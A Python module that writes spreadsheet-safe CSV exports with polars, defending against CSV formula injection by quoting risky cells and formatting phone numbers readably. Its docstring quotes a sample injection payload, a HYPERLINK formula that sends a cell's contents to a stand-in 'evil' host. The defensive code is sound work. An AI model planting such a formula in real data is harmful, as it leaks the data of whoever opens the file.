"""CSV files that people open in a spreadsheet (review_queue.csv) without running formulas.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab, carriage return or line feed,
which some spreadsheets skip before looking for one) is read by Excel, LibreOffice and Google
Sheets as a formula: `=HYPERLINK("http://evil/?"&A2, "click")` in a customer's name field
would run on the steward's machine. Such cells get a leading apostrophe, which spreadsheets
show as plain text and hide; this is OWASP's recommended neutralization for CSV injection.
Numbers stay numbers: only text cells are touched, so a negative amount is still a number.

Phone numbers are the exception people see most: in E.164 they start with '+', and the
apostrophe shows when a CSV is opened (it is hidden only when typed). Columns named as phones
are written as "(+34) 612 34 56 78" instead: a text no spreadsheet reads as a formula or a
number, with every digit kept and nothing to strip.
"""

from __future__ import annotations

import io

import polars as pl

# The full-width forms are read as formula signs by some spreadsheet locales too.
_FORMULA_CHARS = "=+-@\t\r\n＝＋－＠"
FORMULA_START = r"^[=+\-@\t\r\n＝＋－＠]"


def spreadsheet_safe(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every text cell (and column name) that could start a formula quoted."""
    # Series, not pl.col(name): a column called "*" or "^a.*$" would be read as a pattern.
    columns = [_neutralize(s) if s.dtype == pl.String else s for s in frame.get_columns()]
    return pl.DataFrame([s.alias(_safe_name(s.name)) for s in columns])


def _neutralize(cells: pl.Series) -> pl.Series:
    # Series string methods select the series by name internally: work on a plain name
    text = cells.alias("cell")
    risky = text.str.contains(FORMULA_START).fill_null(False)
    return ("'" + text).zip_with(risky, text).alias(cells.name)


def csv_for_people(
    frame: pl.DataFrame, phones: tuple[str, ...] = (), first_line: str = ""
) -> bytes:
    """`frame` as a spreadsheet-safe CSV: neutralized cells, UTF-8 with a BOM.

    Lists (such as quarantine reasons) are joined with "; " so the file has one value per
    cell. `phones` name columns of E.164 numbers, written readably (`readable_phone`).
    `first_line`, if given, is a note above the header (a '#' line, one cell: no commas).
    """
    phone_columns = [s for s in frame.get_columns() if s.name in phones and s.dtype == pl.String]
    readable = _readable_phones(phone_columns)
    phone_names = {s.name for s in phone_columns}
    flat = pl.DataFrame(
        [
            _joined(s)
            if isinstance(s.dtype, pl.List)
            else s.alias("cell")
            .replace_strict(readable, default=None, return_dtype=pl.String)
            .alias(s.name)
            if s.name in phone_names
            else s
            for s in frame.get_columns()
        ]
    )
    buffer = io.BytesIO()
    if first_line:
        if any(c in first_line for c in ',;"\r\n') or not first_line.startswith("#"):
            raise ValueError("the note line must start with '#' and hold no separator")
        buffer.write(("\ufeff" + first_line + "\n").encode("utf-8"))
        flat = spreadsheet_safe(flat)
        flat.write_csv(buffer)
        return buffer.getvalue()
    # The BOM makes Excel read the file as UTF-8, so accented names survive.
    spreadsheet_safe(flat).write_csv(buffer, include_bom=True)
    return buffer.getvalue()


def readable_phone(number: str | None) -> str | None:
    """'+34612345678' as '(+34) 612 34 56 78': the country code in brackets, then the
    number grouped as the country writes it. Anything else is returned as it is."""
    if not number or not number.startswith("+"):
        return number
    import phonenumbers

    try:
        parsed = phonenumbers.parse(number, None)
    except phonenumbers.NumberParseException:
        return f"(+) {number[1:]}"
    # the international form without its "+CC ": no trunk prefix (the UK's 0) to mislead
    written = phonenumbers.format_number(parsed, phonenumbers.PhoneNumberFormat.INTERNATIONAL)
    code = f"+{parsed.country_code}"
    rest = written[len(code) :].strip() if written.startswith(code) else number[1:]
    return f"({code}) {rest or number[len(code) :]}"


def _readable_phones(columns: list[pl.Series]) -> dict[str, str | None]:
    """Each distinct number of `columns`, written readably: a review queue names the same
    record in many pairs, and formatting each cell took 1.7 s of publication at a million
    records against 0.4 s for the distinct numbers."""
    distinct = (
        pl.concat(columns).drop_nulls().unique() if columns else pl.Series([], dtype=pl.String)
    )
    return {number: readable_phone(number) for number in distinct.to_list()}


def _safe_name(name: str) -> str:
    return "'" + name if name and name[0] in _FORMULA_CHARS else name


def _joined(cells: pl.Series) -> pl.Series:
    return cells.alias("cell").cast(pl.List(pl.String)).list.join("; ").alias(cells.name)
